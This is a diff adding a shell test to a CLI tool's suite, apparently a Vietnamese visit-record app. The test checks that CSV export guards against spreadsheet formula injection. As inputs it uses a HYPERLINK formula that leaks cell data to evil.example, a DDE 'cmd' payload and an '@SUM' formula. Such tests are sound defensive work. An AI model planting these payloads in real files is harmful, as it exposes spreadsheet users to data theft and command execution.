@@ -260,6 +260,32 @@ same "$(head -c 3 "$T/out" | od -An -tx1 | tr -d ' ')" efbbbf "csv BOM"
 expect 1 "export usage" "$COSO" export --format xlsx
 ls "$T" | grep -q 'all.csv\.' && bad "export left a temp file" || ok
 
+# --- export: cells a spreadsheet would run as formulas --------------------
+# Text starting with = + - @ TAB or CR is written quoted with a leading
+# single quote (OWASP); numbers, negative ones too, stay bare numbers.
+I="$COSO --store $T/inj"
+expect 0 "inj init" $I init --cadre c9 --name "Nguyễn Văn Bình"
+expect 0 "inj units" $I units import "$T/units.csv"
+expect 0 "inj visit" $I visit add --unit 06043 --date 2025-03-10 \
+	--purpose '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")' \
+	--situation "+cmd|' /C calc'!A0" --difficulties '@SUM(1+1)' \
+	--direction '-2+3' --participant "$(printf '\tTrưởng thôn')" \
+	--proposal "$(printf '\rĐề nghị')" --lat -10.5 --lon 106.1 \
+	--outcome "-5 hộ thoát nghèo" --quantity 3
+expect 0 "inj export" $I export --format csv --output "$T/inj.csv"
+contains "$T/inj.csv" \
+	'"'"'"'=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm"")"' "csv ="
+contains "$T/inj.csv" "\"'+cmd|' /C calc'!A0\"" "csv +"
+contains "$T/inj.csv" "\"'@SUM(1+1)\",\"'-2+3\"" "csv @ and -"
+contains "$T/inj.csv" "$(printf '"\047\tTrưởng thôn"')" "csv TAB"
+contains "$T/inj.csv" "$(printf '"\047\rĐề nghị"')" "csv CR"
+contains "$T/inj.csv" "\"'-5 hộ thoát nghèo\",3000," "csv text - and number"
+contains "$T/inj.csv" ",-10500000,106100000," "csv negative number bare"
+# No cell of the file starts with a formula character unguarded (a minus
+# only before digits: a number).
+same "$(tr -d '\r' <"$T/inj.csv" | grep -c -e '^[-=+@]' -e ',[=+@]' \
+	-e ',-[^0-9]' -e "$(printf ',\t')")" 0 "csv no bare formula cell"
+
 # --- languages --------------------------------------------------------------
 expect 2 "vi message" env LANGUAGE=vi "$COSO" visit add --unit 99999 \
 	--date 2025-03-10
